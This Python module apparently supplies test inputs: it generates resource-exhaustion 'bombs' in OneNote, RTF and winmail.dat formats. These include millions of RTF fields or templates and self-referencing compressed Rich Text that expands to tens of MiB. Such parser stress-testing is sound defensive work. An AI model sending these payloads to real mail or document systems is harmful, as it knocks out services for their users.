"""Bombs for what Outlook and OneNote write, and Rich Text. OUTLOOK_BOMBS: label ─▶ Bomb."""
import struct

from bombs import Bomb, attribute, tnef
from samples import onenote, onenote_fragment, onenote_node


def onenote_names(count):
    """A set of sets, each of which names the same file; of names there are a few thousand."""
    head = onenote([], [], ["hello"])[:1024]
    sets = b"".join(struct.pack("<HIII", 2, 0x20001d9b, 0x1c001d9c, 2) + struct.pack("<H", 0x4e00 + min(n, 3990)) for n in range(count))
    data = struct.pack("<IHIII", 1 << 31, 1, 0x10 << 26 | 1, count, 0) + sets
    node = onenote_node(0xa4, struct.pack("<IIBB", 0x100, 0x60035, 1, 1), (len(head), len(data)))
    return head + data + onenote_fragment(7, [node] * 3)


def compressed(head, unit, size):
    """Rich Text as Outlook packs it ([MS-OXRTFCP]): words, then others again and again, by references to themselves."""
    tokens = [(0, bytes([c])) for c in head + unit]
    at, length = 207 + len(tokens), len(tokens)
    while length < size:
        tokens.append((1, struct.pack(">H", (at - len(unit)) % 4096 << 4 | 15)))
        at, length = at + 17, length + 17
    tokens.append((1, struct.pack(">H", at % 4096 << 4)))
    groups = (tokens[i:i + 8] for i in range(0, len(tokens), 8))
    body = b"".join(bytes([sum(kind << n for n, (kind, _) in enumerate(some))]) + b"".join(data for _, data in some) for some in groups)
    return struct.pack("<IIII", len(body) + 12, length, 0x75465A4C, 0) + body


def winmail(*properties):
    """A message with (tag, bytes) of each."""
    data = b"".join(struct.pack("<III", tag, 1, len(value)) + value + bytes(-len(value) % 4) for tag, value in properties)
    return tnef(attribute(0x00069003, struct.pack("<I", len(properties)) + data))


FIELD = b"{\\fldinst}"

OUTLOOK_BOMBS = {
    "onenote, 1,000,000 fields in one text": Bomb("a.one", lambda: onenote([], [], ["\ufddf" * 1000000]), False),
    "onenote, 600,000 names of one file": Bomb("a.one", lambda: onenote_names(600000), False),
    "rtf, 2,000,000 fields": Bomb("a.rtf", lambda: b"{\\rtf1" + FIELD * 2000000 + b"}", False),
    "rtf, 2,000,000 templates": Bomb("a.rtf", lambda: b"{\\rtf1" + b"\\template" * 2000000 + b"}", True),
    "winmail.dat, 3,000,000 fields": Bomb("winmail.dat", lambda: winmail((0x10090102, compressed(b"{\\rtf1", FIELD, 30 << 20))), False),
    "winmail.dat, 6 bodies of 20 MiB": Bomb("winmail.dat", lambda: winmail(*[(0x10090102, compressed(b"{\\rtf1", FIELD, 20 << 20))] * 6), False),
    "winmail.dat, 1,200,000 links and as many addresses of mail": Bomb("winmail.dat", lambda: winmail(
        *[(0x3a50001e + (n << 16), b"a@b.de www.c.de " * 10000) for n in range(120)]), True),
}
